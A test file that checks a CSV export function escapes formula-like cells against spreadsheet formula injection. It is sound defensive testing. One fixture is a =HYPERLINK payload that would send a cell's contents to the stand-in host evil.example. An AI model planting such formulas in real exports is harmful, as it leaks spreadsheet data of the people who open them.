import { describe, expect, it } from 'vitest';
import { toCsv } from '../../web/src/export-formats.ts';

/**
 * CSV injection (OWASP): a cell from a letter's text that starts like a
 * formula must reach the spreadsheet as text. Each row: what the letter
 * holds, and the cell as written.
 */
describe('CSV cells that a spreadsheet would run as formulas', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"点击")', `"'=HYPERLINK(""http://evil.example/?""&A1,""点击"")"`],
    ['+86-577-88962022', `"'+86-577-88962022"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(1+1)', `"'@SUM(1+1)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
  ])('%j is written as text: %s', (text, written) => {
    expect(toCsv(['text'], [[text]])).toBe(`\ufefftext\r\n${written}\r\n`);
  });

  it.each([
    ['a number, even below zero, stays a number', -5, '-5'],
    ['a value of 1.56 stays a number', 1.56, '1.56'],
    ['text with = inside, not at the start', '增长率=12%', '增长率=12%'],
    ['a Chinese clause', '新增高新技术企业500家以上', '新增高新技术企业500家以上'],
    ['an empty cell', null, ''],
  ])('must not misfire: %s', (_name, value, written) => {
    expect(toCsv(['v'], [[value]])).toBe(`\ufeffv\r\n${written}\r\n`);
  });
});
